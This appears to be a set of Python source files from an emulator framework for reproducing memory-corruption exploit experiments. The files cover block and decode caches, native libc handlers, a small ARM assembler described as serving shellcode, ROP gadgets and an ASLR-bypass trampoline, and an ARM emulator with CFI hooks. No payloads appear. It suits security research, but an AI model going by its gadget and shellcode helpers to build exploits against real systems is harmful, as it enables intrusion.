    per-step path would).  ``executed`` is only meaningful right after an
    exception escaped :meth:`execute` — it carries the completed-step
    count for the run loop's budget accounting.
    """

    __slots__ = ("entry", "length", "ops", "page_gens", "executed",
                 "mnemonics", "addresses")

    def __init__(self, entry: int, ops: Tuple, page_gens: Tuple[Tuple[int, int], ...],
                 mnemonics: Tuple[str, ...] = (), addresses: Tuple[int, ...] = ()):
        self.entry = entry
        self.ops = ops
        self.length = len(ops)
        self.page_gens = page_gens
        self.executed = 0
        #: Per-instruction attribution lines (parallel to ``ops``), so the
        #: profiler can sum a block dispatch into the same per-opcode /
        #: per-address counters the per-step path produces.
        self.mnemonics = mnemonics
        self.addresses = addresses

    def execute(self, process: "Process") -> int:
        """Run the block; returns how many instructions completed.

        A :class:`BlockInvalidated` bail (self-modifying store) returns the
        partial count — the writing instruction itself completed and the
        run loop resumes per-instruction at the committed pc.  Any other
        exception records the partial count in ``executed`` and propagates,
        so the run loop's ``steps`` stays exact on stops and faults.
        """
        values = process.registers.values
        executed = 0
        try:
            for op in self.ops:
                op(process, values)
                executed += 1
        except BlockInvalidated:
            return executed + 1
        except BaseException:
            self.executed = executed
            raise
        return executed


class BlockCache:
    """Address-keyed cache of compiled blocks with decode-cache validity."""

    #: Process-construction default; parity tests flip this to pin that
    #: block translation changes no experiment outcome.
    enabled_by_default = True

    __slots__ = ("process", "memory", "enabled", "hits", "misses",
                 "invalidations", "epoch_flushes", "native_flushes",
                 "builds", "steps", "built_lengths", "_blocks", "_epoch",
                 "_native_version", "_backend")

    def __init__(self, process: "Process", *, enabled: Optional[bool] = None):
        self.process = process
        self.memory = process.memory
        self.enabled = BlockCache.enabled_by_default if enabled is None else enabled
        #: Validated lookups — each hit is one whole-block dispatch.
        self.hits = 0
        #: Lookup failures that triggered a build attempt.
        self.misses = 0
        #: Entries dropped individually by a page-generation mismatch.
        self.invalidations = 0
        #: Whole-cache flushes because the mapping epoch moved (remap).
        self.epoch_flushes = 0
        #: Whole-cache flushes because a native handler was registered
        #: after blocks were compiled (``native_version`` moved).  Split
        #: from :attr:`epoch_flushes` so cache-efficiency attribution can
        #: tell "new code was mapped" from "the libc model grew".
        self.native_flushes = 0
        #: Blocks successfully compiled.
        self.builds = 0
        #: Instructions executed through compiled blocks (the run loop
        #: adds each block execution's completed count).
        self.steps = 0
        #: Lengths of blocks built since the last observer flush (the
        #: emulator drains this into the ``block.length`` histogram).
        self.built_lengths: List[int] = []
        self._blocks: Dict[int, Block] = {}
        self._epoch = process.memory.mapping_epoch
        self._native_version = process.native_version
        self._backend = None

    def __len__(self) -> int:
        return len(self._blocks)

    def clear(self) -> None:
        self._blocks.clear()

    # -- lookup / validation ---------------------------------------------------

    def lookup(self, address: int) -> Optional[Block]:
        """Return a still-valid compiled block entered at ``address``."""
        memory = self.memory
        process = self.process
        epoch_moved = self._epoch != memory.mapping_epoch
        if epoch_moved or self._native_version != process.native_version:
            # Mapping table or native registry changed: every compiled
            # block is suspect (a remap is new code; a new native handler
            # could sit inside a block's straight line).  An epoch move
            # takes attribution precedence when both changed at once.
            if self._blocks:
                self._blocks.clear()
                if epoch_moved:
                    self.epoch_flushes += 1
                else:
                    self.native_flushes += 1
            self._epoch = memory.mapping_epoch
            self._native_version = process.native_version
            return None
        block = self._blocks.get(address)
        if block is None:
            return None
        for page, generation in block.page_gens:
            if memory.page_generation(page) != generation:
                del self._blocks[address]
                self.invalidations += 1
                return None
        self.hits += 1
        return block

    def fetch(self, emulator: "Emulator", address: int) -> Optional[Block]:
        """Validated lookup, building (and caching) the block on a miss.

        Returns ``None`` when no block can start at ``address`` (the very
        first instruction fails to decode) — the per-step path then raises
        the exact fault the interpreter would.

        Declines outright (before any counter moves) while a taint engine
        is attached: label propagation needs per-instruction pre-step
        register state that block dispatch never materializes, and the run
        loop's own gate cannot cover callers that fetch blocks directly.
        """
        if getattr(self.process, "taint", None) is not None:
            return None
        block = self.lookup(address)
        if block is not None:
            return block
        self.misses += 1
        block = self._build(emulator, address)
        if block is not None:
            self._blocks[address] = block
            self.builds += 1
            self.built_lengths.append(block.length)
        return block

    # -- compilation -----------------------------------------------------------

    def _backend_for(self, arch: str):
        if self._backend is None:
            # Late import: the arch backends import the emulator base,
            # which sits next to this module.
            if arch == "x86":
                from .x86 import emu as backend
            else:
                from .arm import emu as backend
            self._backend = backend
        return self._backend

    def _build(self, emulator: "Emulator", entry: int) -> Optional[Block]:
        """Decode a straight line from ``entry`` and compile it.

        Decoding rides the decode cache (same fetch/X-check path as the
        interpreter) and must stay side-effect free: a fetch or decode
        fault just ends the line — the faulting address is left for the
        per-step path to reach and raise on, exactly when the interpreter
        would have.
        """
        process = self.process
        backend = self._backend_for(process.arch)
        entry_page = entry >> PAGE_SHIFT
        insns: List[Instruction] = []
        address = entry
        while len(insns) < MAX_BLOCK_LEN:
            if insns and process.native_at(address) is not None:
                break  # native boundary: the run loop dispatches these
            if insns and (address >> PAGE_SHIFT) != entry_page:
                break  # page-boundary exit: keep the invalidation span tight
            try:
                insn = backend.decode_block_insn(process, address)
            except (MemoryFault, CpuError):
                break
            insns.append(insn)
            if backend.block_terminal(insn):
                break
            address = insn.end
        if not insns:
            return None
        page_gens = self.memory.page_generation_span(
            entry, insns[-1].end - entry)
        flag_needed = _flag_liveness(backend, insns)
        guard = _make_guard(self.memory.page_generation, page_gens)
        ops = []
        for insn, needed in zip(insns, flag_needed):
            if backend.block_terminal(insn):
                ops.append(_terminal_op(emulator, insn))
            else:
                ops.append(backend.compile_block_op(
                    insn, self.memory,
                    flags_needed=needed,
                    guard=guard if backend.block_writes_memory(insn) else None,
                ))
        return Block(entry, tuple(ops), page_gens,
                     tuple(insn.mnemonic for insn in insns),
                     tuple(insn.address for insn in insns))

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        state = "on" if self.enabled else "off"
        return (f"BlockCache({state}, {len(self._blocks)} blocks, "
                f"hits={self.hits}, builds={self.builds})")


def _flag_liveness(backend, insns: List[Instruction]) -> List[bool]:
    """Which instructions' flag writes are observable (backward pass).

    A flag write is dead — and its computation elided at compile time —
    only when a later instruction in the same block overwrites the flags
    *and* nothing in between can fault: a fault mid-block captures a crash
    postmortem with the architectural flag state, so every instruction
    that can fault (memory access) and the block exit itself keep the
    flags live.  Flag writers in both emulated subsets are register-only
    and cannot fault, so the two concerns never collide in one op.
    """
    flag_needed = [True] * len(insns)
    live = True  # flags are observable after the block exits
    for index in range(len(insns) - 1, -1, -1):
        insn = insns[index]
        if backend.block_terminal(insn):
            # Compiled via the interpreter executor; may read flags (jz).
            live = True
            continue
        if backend.block_writes_flags(insn):
            flag_needed[index] = live
            live = False
        if backend.block_can_fault(insn):
            live = True
    return flag_needed


def _make_guard(page_generation, page_gens: Tuple[Tuple[int, int], ...]):
    """Post-store check: bail the block if its own pages were written."""

    def guard() -> None:
        for page, generation in page_gens:
            if page_generation(page) != generation:
                raise BlockInvalidated
    return guard


def _terminal_op(emulator: "Emulator", insn: Instruction):
    """Terminal instructions run through the interpreter executor.

    Control transfers, syscalls, traps, and pc-writers carry the CFI
    hooks and stop semantics; they execute once per block pass, so the
    dispatch cost they keep is already amortized.
    """
    execute = emulator._execute

    def op(process: "Process", values: Dict[str, int]) -> None:
        execute(insn)
    return op
