"""Per-process decoded-instruction cache shared by both emulator backends.

Re-decoding every instruction on every step is the hot path of every
exploit experiment (the fetch–decode–execute loops of E2–E4, E10, E15 and
E16 all bottom out here).  The cache keys decoded :class:`Instruction`
objects by address and validates each hit against two signals from the
owning :class:`~repro.mem.space.AddressSpace`:

* ``mapping_epoch`` — any map/unmap flushes the whole cache (a remap at
  the same base is new code);
* per-page write generations — a write to any page an instruction's bytes
  span drops that entry, so self-modifying payloads (shellcode sprayed to
  the stack, ASLR re-sprays) never execute stale decodes.

Entries are only created after a successful ``fetch`` (the W^X
enforcement point), and segment permissions are immutable once mapped, so
a validated hit implies the X-check would pass again: attack outcomes are
bit-identical with the cache on or off.
"""

from __future__ import annotations

from typing import Dict, Optional, Tuple

from ..mem.space import AddressSpace
from .isa import Instruction

#: (instruction, mapping epoch, ((page, generation), ...)).
_Entry = Tuple[Instruction, int, Tuple[Tuple[int, int], ...]]


class DecodeCache:
    """Address-keyed cache of decoded instructions with write invalidation."""

    #: Process-construction default; tests flip this to pin that the cache
    #: changes no experiment outcome.
    enabled_by_default = True

    __slots__ = ("memory", "enabled", "hits", "misses", "invalidations",
                 "epoch_flushes", "_entries")

    def __init__(self, memory: AddressSpace, *, enabled: Optional[bool] = None):
        self.memory = memory
        self.enabled = DecodeCache.enabled_by_default if enabled is None else enabled
        #: Validated cache hits (decoder skipped).
        self.hits = 0
        #: Decoder invocations — every ``record_decode`` call, so with the
        #: cache disabled ``misses`` still counts decode() calls.
        self.misses = 0
        #: Entries dropped individually by a page-generation mismatch — a
        #: write landed on a page the cached bytes span.  Epoch flushes are
        #: counted separately: a whole-cache drop re-validates nothing
        #: per-entry, and bench analysis reads the two signals apart.
        self.invalidations = 0
        #: Whole-cache flushes caused by a ``mapping_epoch`` change.
        self.epoch_flushes = 0
        self._entries: Dict[int, _Entry] = {}

    def lookup(self, address: int) -> Optional[Instruction]:
        """Return a still-valid cached instruction at ``address`` or None."""
        if not self.enabled:
            return None
        entry = self._entries.get(address)
        if entry is None:
            return None
        insn, epoch, page_gens = entry
        memory = self.memory
        if epoch != memory.mapping_epoch:
            # The mapping table changed under us: everything is suspect.
            self._entries.clear()
            self.epoch_flushes += 1
            return None
        for page, generation in page_gens:
            if memory.page_generation(page) != generation:
                del self._entries[address]
                self.invalidations += 1
                return None
        self.hits += 1
        return insn

    def record_decode(self, insn: Instruction) -> None:
        """Note one decoder call, caching its result when enabled."""
        self.misses += 1
        if not self.enabled:
            return
        memory = self.memory
        self._entries[insn.address] = (
            insn,
            memory.mapping_epoch,
            memory.page_generation_span(insn.address, insn.size),
        )

    def clear(self) -> None:
        self._entries.clear()

    def __len__(self) -> int:
        return len(self._entries)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        state = "on" if self.enabled else "off"
        return (f"DecodeCache({state}, {len(self._entries)} entries, "
                f"hits={self.hits}, misses={self.misses})")
