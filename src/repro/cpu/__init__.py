"""CPU substrate: x86 and ARMv7 assemblers, decoders and emulators."""

from .blocks import MAX_BLOCK_LEN, Block, BlockCache
from .cache import DecodeCache
from .emulator import DEFAULT_STEP_BUDGET, Emulator, ExecutionResult, make_emulator
from .events import (
    CanaryClobbered,
    ControlFlowViolation,
    CpuError,
    EmulationBudgetExceeded,
    IllegalInstruction,
    _EmulationStop,
)
from .isa import ARM, SUPPORTED_ARCHES, X86, Instruction, check_arch
from .native import NativeCallContext, NativeFunction, NativeHandler
from .process import ExitRecord, Process, SpawnRecord
from .trace import TraceEntry, TraceRecorder
from .registers import (
    RegisterFile,
    make_arm_registers,
    make_registers,
    make_x86_registers,
    pc_register,
    sp_register,
)

__all__ = [
    "ARM",
    "Block",
    "BlockCache",
    "CanaryClobbered",
    "check_arch",
    "ControlFlowViolation",
    "CpuError",
    "DecodeCache",
    "DEFAULT_STEP_BUDGET",
    "EmulationBudgetExceeded",
    "Emulator",
    "ExecutionResult",
    "ExitRecord",
    "IllegalInstruction",
    "Instruction",
    "make_arm_registers",
    "make_emulator",
    "make_registers",
    "make_x86_registers",
    "MAX_BLOCK_LEN",
    "NativeCallContext",
    "NativeFunction",
    "NativeHandler",
    "pc_register",
    "Process",
    "RegisterFile",
    "sp_register",
    "SpawnRecord",
    "SUPPORTED_ARCHES",
    "TraceEntry",
    "TraceRecorder",
    "X86",
]
