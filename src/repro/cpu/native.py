"""Native (host-implemented) functions mapped into the emulated process.

These model libc and PLT targets: when the program counter reaches a
registered address, the emulator invokes the Python handler with an
ABI-aware :class:`NativeCallContext` instead of fetching bytes.  Argument
reading honours each architecture's calling convention — x86 cdecl reads
``[esp+4], [esp+8], ...``; ARM AAPCS reads ``r0..r3`` then the stack — so a
ROP chain that lays out arguments wrongly genuinely fails.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from .process import Process


class NativeCallContext:
    """Calling-convention view over a process paused at a native entry."""

    def __init__(self, process: Process):
        self.process = process
        self.memory = process.memory
        self.registers = process.registers

    def arg(self, index: int) -> int:
        """Read positional 32-bit argument ``index`` (0-based)."""
        if self.process.arch == "x86":
            # cdecl: [esp] is the return address, args follow.
            return self.memory.read_u32((self.process.sp + 4 * (index + 1)) & 0xFFFFFFFF)
        if index < 4:
            return self.registers[f"r{index}"]
        return self.memory.read_u32((self.process.sp + 4 * (index - 4)) & 0xFFFFFFFF)

    def cstring_arg(self, index: int, *, limit: int = 4096) -> str:
        return self.memory.read_cstring(self.arg(index), limit).decode("latin-1")

    def return_from_call(self, retval: int = 0) -> None:
        """Perform the architectural return: pop eip (x86) / pc := lr (ARM)."""
        if self.process.arch == "x86":
            self.registers["eax"] = retval
            self.process.pc = self.process.pop_u32()
        else:
            self.registers["r0"] = retval
            self.process.pc = self.registers["r14"]
        taint = getattr(self.process, "taint", None)
        if taint is not None:
            # A return address popped from tainted stack memory (or a
            # tainted lr) is a PC write the emulator's step hook never
            # sees — the provenance chain's most likely terminal link.
            taint.on_native_return(self.process)


#: A native handler receives the call context and either completes the
#: "return" itself or returns an int retval for the default return sequence.
NativeHandler = Callable[[NativeCallContext], Optional[int]]


@dataclass
class NativeFunction:
    """A named host function installed at one emulated address."""

    name: str
    handler: NativeHandler

    def invoke(self, process: Process) -> None:
        context = NativeCallContext(process)
        before_pc = process.pc
        retval = self.handler(context)
        if process.pc == before_pc:
            # Handler did not redirect control itself: do a normal return.
            context.return_from_call(retval if retval is not None else 0)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"NativeFunction({self.name!r})"
