"""Tiny ARMv7 (ARM-mode, little-endian) assembler for the emulated subset.

Encodings follow the ARM ARM: 4-byte instructions, condition field fixed to
AL (0b1110).  Covers exactly what the connman binary factory, the ARM
shellcode and the gadget corpus need — data processing, LDM/STM on sp
(push/pop), branches, ``bx``/``blx`` and ``svc``.
"""

from __future__ import annotations

import struct
from typing import Iterable

COND_AL = 0xE

_ALIASES = {"sp": 13, "lr": 14, "pc": 15, "fp": 11, "ip": 12}


def reg_number(name: str) -> int:
    name = name.lower()
    if name in _ALIASES:
        return _ALIASES[name]
    if name.startswith("r"):
        number = int(name[1:])
        if 0 <= number <= 15:
            return number
    raise ValueError(f"unknown ARM register {name!r}")


def _word(value: int) -> bytes:
    return struct.pack("<I", value & 0xFFFFFFFF)


def encode_arm_immediate(value: int) -> int:
    """Encode a 32-bit value as an 8-bit immediate with even rotation.

    Returns the 12-bit operand2 field; raises if the value is unencodable
    (same constraint real assemblers enforce).
    """
    value &= 0xFFFFFFFF
    for rotation in range(16):
        rotated = ((value << (2 * rotation)) | (value >> (32 - 2 * rotation))) & 0xFFFFFFFF if rotation else value
        if rotated < 256:
            return (rotation << 8) | rotated
    raise ValueError(f"{value:#x} is not encodable as an ARM rotated immediate")


def _data_processing_imm(opcode: int, set_flags: bool, rn: int, rd: int, value: int) -> bytes:
    operand2 = encode_arm_immediate(value)
    word = (COND_AL << 28) | (1 << 25) | (opcode << 21) | (int(set_flags) << 20)
    word |= (rn << 16) | (rd << 12) | operand2
    return _word(word)


def _data_processing_reg(opcode: int, set_flags: bool, rn: int, rd: int, rm: int) -> bytes:
    word = (COND_AL << 28) | (opcode << 21) | (int(set_flags) << 20)
    word |= (rn << 16) | (rd << 12) | rm
    return _word(word)


def mov_imm(rd: str, value: int) -> bytes:
    return _data_processing_imm(0b1101, False, 0, reg_number(rd), value)


def mov_reg(rd: str, rm: str) -> bytes:
    return _data_processing_reg(0b1101, False, 0, reg_number(rd), reg_number(rm))


def add_imm(rd: str, rn: str, value: int) -> bytes:
    return _data_processing_imm(0b0100, False, reg_number(rn), reg_number(rd), value)


def sub_imm(rd: str, rn: str, value: int) -> bytes:
    return _data_processing_imm(0b0010, False, reg_number(rn), reg_number(rd), value)


def add_reg(rd: str, rn: str, rm: str) -> bytes:
    return _data_processing_reg(0b0100, False, reg_number(rn), reg_number(rd), reg_number(rm))


def sub_reg(rd: str, rn: str, rm: str) -> bytes:
    return _data_processing_reg(0b0010, False, reg_number(rn), reg_number(rd), reg_number(rm))


def cmp_imm(rn: str, value: int) -> bytes:
    return _data_processing_imm(0b1010, True, reg_number(rn), 0, value)


def mvn_imm(rd: str, value: int) -> bytes:
    return _data_processing_imm(0b1111, False, 0, reg_number(rd), value)


def and_reg(rd: str, rn: str, rm: str) -> bytes:
    return _data_processing_reg(0b0000, False, reg_number(rn), reg_number(rd), reg_number(rm))


def orr_reg(rd: str, rn: str, rm: str) -> bytes:
    return _data_processing_reg(0b1100, False, reg_number(rn), reg_number(rd), reg_number(rm))


def eor_reg(rd: str, rn: str, rm: str) -> bytes:
    return _data_processing_reg(0b0001, False, reg_number(rn), reg_number(rd), reg_number(rm))


def and_imm(rd: str, rn: str, value: int) -> bytes:
    return _data_processing_imm(0b0000, False, reg_number(rn), reg_number(rd), value)


def orr_imm(rd: str, rn: str, value: int) -> bytes:
    return _data_processing_imm(0b1100, False, reg_number(rn), reg_number(rd), value)


def eor_imm(rd: str, rn: str, value: int) -> bytes:
    return _data_processing_imm(0b0001, False, reg_number(rn), reg_number(rd), value)


def nop() -> bytes:
    """Canonical effect-free word; the paper's sled uses ``mov r1, r1``."""
    return mov_reg("r0", "r0")


def mov_r1_r1() -> bytes:
    """The exact ARM 'NOP' word the paper uses for its sled."""
    return mov_reg("r1", "r1")


def _reglist(regs: Iterable[str]) -> int:
    bits = 0
    for name in regs:
        bits |= 1 << reg_number(name)
    if bits == 0:
        raise ValueError("empty register list")
    return bits


def push(regs: Iterable[str]) -> bytes:
    """STMDB sp!, {regs}"""
    return _word((COND_AL << 28) | 0x092D0000 | _reglist(regs))


def pop(regs: Iterable[str]) -> bytes:
    """LDMIA sp!, {regs} — the gadget shape every ARM exploit in the paper uses."""
    return _word((COND_AL << 28) | 0x08BD0000 | _reglist(regs))


def bx(rm: str) -> bytes:
    return _word((COND_AL << 28) | 0x012FFF10 | reg_number(rm))


def blx_reg(rm: str) -> bytes:
    """BLX <reg> — the trampoline gadget for the ASLR bypass (Listing 5)."""
    return _word((COND_AL << 28) | 0x012FFF30 | reg_number(rm))


def _branch(link: bool, origin: int, target: int) -> bytes:
    offset = (target - (origin + 8)) >> 2
    if not -(2**23) <= offset < 2**23:
        raise ValueError(f"branch target out of range: {target:#x} from {origin:#x}")
    word = (COND_AL << 28) | (0b101 << 25) | (int(link) << 24) | (offset & 0x00FFFFFF)
    return _word(word)


def b(origin: int, target: int) -> bytes:
    return _branch(False, origin, target)


def bl(origin: int, target: int) -> bytes:
    return _branch(True, origin, target)


def svc(imm: int = 0) -> bytes:
    return _word((COND_AL << 28) | (0xF << 24) | (imm & 0x00FFFFFF))


def _ldr_str(load: bool, rd: str, rn: str, offset: int, *, byte: bool = False) -> bytes:
    up = offset >= 0
    magnitude = abs(offset)
    if magnitude >= 4096:
        raise ValueError(f"ldr/str offset out of range: {offset}")
    word = (COND_AL << 28) | (0b01 << 26) | (1 << 24)  # immediate, pre-indexed
    word |= (int(up) << 23) | (int(byte) << 22) | (int(load) << 20)
    word |= (reg_number(rn) << 16) | (reg_number(rd) << 12) | magnitude
    return _word(word)


def ldr(rd: str, rn: str, offset: int = 0) -> bytes:
    return _ldr_str(True, rd, rn, offset)


def str_(rd: str, rn: str, offset: int = 0) -> bytes:
    return _ldr_str(False, rd, rn, offset)


def ldrb(rd: str, rn: str, offset: int = 0) -> bytes:
    return _ldr_str(True, rd, rn, offset, byte=True)


def strb(rd: str, rn: str, offset: int = 0) -> bytes:
    return _ldr_str(False, rd, rn, offset, byte=True)
