"""Execution backend for the ARMv7 (ARM-mode) subset.

PC semantics follow the architecture: reading ``r15`` as an operand yields
the current instruction address + 8 (two words of legacy pipeline), which is
what position-relative shellcode (``add r0, pc, #imm``) depends on.
"""

from __future__ import annotations

from ..emulator import Emulator
from ..events import IllegalInstruction
from ..isa import Instruction
from ..registers import MASK32
from ..syscalls import dispatch_arm
from .disasm import decode

N_BIT = 1 << 31
Z_BIT = 1 << 30
_NOT_NZ = MASK32 ^ (N_BIT | Z_BIT)


class ArmEmulator(Emulator):
    arch = "arm"

    def _read_operand(self, operand, insn_address: int) -> int:
        if isinstance(operand, int):
            return operand
        if operand == "r15":
            return (insn_address + 8) & MASK32
        return self.process.registers[operand]

    def _set_nz(self, result: int) -> None:
        cpsr = self.process.registers["cpsr"]
        cpsr &= ~(N_BIT | Z_BIT)
        if result & MASK32 == 0:
            cpsr |= Z_BIT
        if result & 0x80000000:
            cpsr |= N_BIT
        self.process.registers["cpsr"] = cpsr

    def _branch_to(self, target: int) -> None:
        self.process.pc = target & MASK32

    def step(self) -> Instruction:
        process = self.process
        address = process.pc
        if address % 4:
            raise IllegalInstruction(address, b"", "misaligned ARM pc")
        cache = process.decode_cache
        insn = cache.lookup(address)
        if insn is None:
            # fetch() spans contiguous segments (mirroring the x86 window
            # rule): a word straddling two adjacent executable mappings
            # decodes; only a genuine gap or a non-X segment faults.
            raw = process.memory.fetch(address, 4)
            insn = decode(raw, address, strict=True)
            cache.record_decode(insn)
        self._execute(insn)
        return insn

    def _execute(self, insn: Instruction) -> None:
        process = self.process
        regs = process.registers
        mnemonic = insn.mnemonic
        address = insn.address
        next_pc = insn.end

        if mnemonic in ("mov", "movs"):
            rd, operand2 = insn.operands
            value = self._read_operand(operand2, address)
            if mnemonic == "movs":
                self._set_nz(value)
            if rd == "r15":
                self._branch_to(value)
                return
            regs[rd] = value
        elif mnemonic in ("mvn", "mvns"):
            rd, operand2 = insn.operands
            value = (~self._read_operand(operand2, address)) & MASK32
            regs[rd] = value
        elif mnemonic in ("add", "adds", "sub", "subs", "and", "ands", "eor", "eors", "orr", "orrs"):
            rd, rn, operand2 = insn.operands
            left = self._read_operand(rn, address)
            right = self._read_operand(operand2, address)
            base = mnemonic.rstrip("s")
            if base == "add":
                result = left + right
            elif base == "sub":
                result = left - right
            elif base == "and":
                result = left & right
            elif base == "eor":
                result = left ^ right
            else:
                result = left | right
            result &= MASK32
            if mnemonic.endswith("s") and mnemonic != base:
                self._set_nz(result)
            if rd == "r15":
                self._branch_to(result)
                return
            regs[rd] = result
        elif mnemonic == "cmp":
            rn, operand2 = insn.operands
            self._set_nz((self._read_operand(rn, address) - self._read_operand(operand2, address)) & MASK32)
        elif mnemonic == "pop":
            (reglist,) = insn.operands
            branch_target = None
            for name in reglist:  # LDMIA loads lowest register from lowest address.
                value = process.pop_u32()
                if name == "r15":
                    branch_target = value
                else:
                    regs[name] = value
            if branch_target is not None:
                if process.cfi is not None:
                    process.cfi.check_return(process, address, branch_target)
                self._branch_to(branch_target)
                return
        elif mnemonic == "push":
            (reglist,) = insn.operands
            for name in reversed(reglist):  # STMDB stores highest register highest.
                process.push_u32(self._read_operand(name, address))
        elif mnemonic == "bx":
            target = self._read_operand(insn.operands[0], address)
            if process.cfi is not None:
                process.cfi.check_return(process, address, target)
            self._branch_to(target & ~1)  # Thumb interworking bit ignored: ARM-only core.
            return
        elif mnemonic == "blx":
            target = self._read_operand(insn.operands[0], address)
            regs["r14"] = next_pc
            if process.cfi is not None:
                process.cfi.note_call(process, next_pc)
                process.cfi.check_indirect(process, address, target & ~1)
            self._branch_to(target & ~1)
            return
        elif mnemonic == "b":
            self._branch_to(insn.operands[0])
            return
        elif mnemonic == "bl":
            regs["r14"] = next_pc
            if process.cfi is not None:
                process.cfi.note_call(process, next_pc)
            self._branch_to(insn.operands[0])
            return
        elif mnemonic == "svc":
            process.pc = next_pc
            dispatch_arm(process)
            return
        elif mnemonic == "ldr":
            rd, rn, offset = insn.operands
            value = process.memory.read_u32((self._read_operand(rn, address) + offset) & MASK32)
            if rd == "r15":
                self._branch_to(value)
                return
            regs[rd] = value
        elif mnemonic == "str":
            rd, rn, offset = insn.operands
            process.memory.write_u32(
                (self._read_operand(rn, address) + offset) & MASK32,
                self._read_operand(rd, address),
            )
        elif mnemonic == "ldrb":
            rd, rn, offset = insn.operands
            value = process.memory.read_u8((self._read_operand(rn, address) + offset) & MASK32)
            regs[rd] = value
        elif mnemonic == "strb":
            rd, rn, offset = insn.operands
            process.memory.write_u8(
                (self._read_operand(rn, address) + offset) & MASK32,
                self._read_operand(rd, address) & 0xFF,
            )
        else:  # pragma: no cover - decoder and executor kept in sync
            raise IllegalInstruction(address, insn.raw, f"unimplemented mnemonic {mnemonic}")

        process.pc = next_pc


# -- superblock compiler backend (see repro.cpu.blocks) --------------------------
#
# Mirrors the x86 backend: classification predicates plus a per-instruction
# closure compiler reproducing ``_execute`` exactly — including the r15+8
# pipeline read (folded to a constant at compile time), LDMIA/STMDB register
# ordering, and the sp commit order around faulting stack accesses.

#: Unconditional block enders.  Any instruction whose *destination* may be
#: r15 is also terminal (checked in block_terminal): those run through the
#: interpreter so its pc-write quirks (mvn/ldrb fall through to next_pc)
#: are kept by construction rather than replicated.
_TERMINAL = frozenset(("bx", "blx", "b", "bl", "svc"))

_PC_DEST = frozenset((
    "mov", "movs", "mvn", "mvns", "add", "adds", "sub", "subs",
    "and", "ands", "eor", "eors", "orr", "orrs", "ldr", "ldrb"))

#: Instructions that write NZ in this interpreter (mvns notably does not).
_WRITES_FLAGS = frozenset(("movs", "adds", "subs", "ands", "eors", "orrs", "cmp"))

_CAN_FAULT = frozenset(("ldr", "str", "ldrb", "strb", "push", "pop"))

_WRITES_MEMORY = frozenset(("str", "strb", "push"))

_DATA3 = frozenset((
    "add", "adds", "sub", "subs", "and", "ands", "eor", "eors", "orr", "orrs"))


def decode_block_insn(process, address: int) -> Instruction:
    """The front half of :meth:`ArmEmulator.step`: cached decode at address."""
    if address % 4:
        raise IllegalInstruction(address, b"", "misaligned ARM pc")
    cache = process.decode_cache
    insn = cache.lookup(address)
    if insn is None:
        raw = process.memory.fetch(address, 4)
        insn = decode(raw, address, strict=True)
        cache.record_decode(insn)
    return insn


def block_terminal(insn: Instruction) -> bool:
    mnemonic = insn.mnemonic
    if mnemonic in _TERMINAL:
        return True
    if mnemonic in _PC_DEST and insn.operands[0] == "r15":
        return True
    return mnemonic == "pop" and "r15" in insn.operands[0]


def block_writes_flags(insn: Instruction) -> bool:
    return insn.mnemonic in _WRITES_FLAGS


def block_can_fault(insn: Instruction) -> bool:
    return insn.mnemonic in _CAN_FAULT


def block_writes_memory(insn: Instruction) -> bool:
    return insn.mnemonic in _WRITES_MEMORY


def _operand_slot(operand, insn_address: int):
    """Resolve an operand at compile time: (register name, constant).

    Immediates and r15 reads (address + 8, the pipeline rule) fold to
    constants; everything else stays a register-dict key.
    """
    if isinstance(operand, int):
        return None, operand & MASK32
    if operand == "r15":
        return None, (insn_address + 8) & MASK32
    return operand, 0


def compile_block_op(insn: Instruction, memory, *, flags_needed: bool, guard):
    """Compile one fall-through instruction into ``op(process, values)``.

    Only called for instructions ``block_terminal`` rejected, so every
    register destination here is a plain register (never r15).
    """
    mnemonic = insn.mnemonic
    address = insn.address
    end = insn.end & MASK32
    operands = insn.operands

    if mnemonic in ("mov", "movs"):
        rd, operand2 = operands
        src_reg, src_const = _operand_slot(operand2, address)
        sets_flags = mnemonic == "movs" and flags_needed

        def op(process, v):
            value = v[src_reg] if src_reg is not None else src_const
            if sets_flags:
                cpsr = v["cpsr"] & _NOT_NZ
                if value == 0:
                    cpsr |= Z_BIT
                if value & 0x80000000:
                    cpsr |= N_BIT
                v["cpsr"] = cpsr
            v[rd] = value
            v["r15"] = end

    elif mnemonic in ("mvn", "mvns"):
        rd, operand2 = operands
        src_reg, src_const = _operand_slot(operand2, address)

        def op(process, v):
            value = v[src_reg] if src_reg is not None else src_const
            v[rd] = (~value) & MASK32
            v["r15"] = end

    elif mnemonic in _DATA3:
        rd, rn, operand2 = operands
        left_reg, left_const = _operand_slot(rn, address)
        right_reg, right_const = _operand_slot(operand2, address)
        base = mnemonic.rstrip("s")
        sets_flags = mnemonic.endswith("s") and mnemonic != base and flags_needed

        def op(process, v):
            left = v[left_reg] if left_reg is not None else left_const
            right = v[right_reg] if right_reg is not None else right_const
            if base == "add":
                result = left + right
            elif base == "sub":
                result = left - right
            elif base == "and":
                result = left & right
            elif base == "eor":
                result = left ^ right
            else:
                result = left | right
            result &= MASK32
            if sets_flags:
                cpsr = v["cpsr"] & _NOT_NZ
                if result == 0:
                    cpsr |= Z_BIT
                if result & 0x80000000:
                    cpsr |= N_BIT
                v["cpsr"] = cpsr
            v[rd] = result
            v["r15"] = end

    elif mnemonic == "cmp":
        rn, operand2 = operands
        left_reg, left_const = _operand_slot(rn, address)
        right_reg, right_const = _operand_slot(operand2, address)

        def op(process, v):
            if flags_needed:
                left = v[left_reg] if left_reg is not None else left_const
                right = v[right_reg] if right_reg is not None else right_const
                result = (left - right) & MASK32
                cpsr = v["cpsr"] & _NOT_NZ
                if result == 0:
                    cpsr |= Z_BIT
                if result & 0x80000000:
                    cpsr |= N_BIT
                v["cpsr"] = cpsr
            v["r15"] = end

    elif mnemonic == "pop":
        (reglist,) = operands  # never contains r15 here (terminal otherwise)
        read_u32 = memory.read_u32

        def op(process, v):
            for name in reglist:  # LDMIA: lowest register from lowest address
                value = read_u32(v["r13"])
                v["r13"] = (v["r13"] + 4) & MASK32
                v[name] = value
            v["r15"] = end

    elif mnemonic == "push":
        (reglist,) = operands
        # STMDB stores the highest register highest; r15 reads fold to pc+8.
        slots = tuple(_operand_slot(name, address) for name in reversed(reglist))
        write_u32 = memory.write_u32

        def op(process, v):
            for src_reg, src_const in slots:
                value = v[src_reg] if src_reg is not None else src_const
                sp = (v["r13"] - 4) & MASK32
                v["r13"] = sp
                write_u32(sp, value)
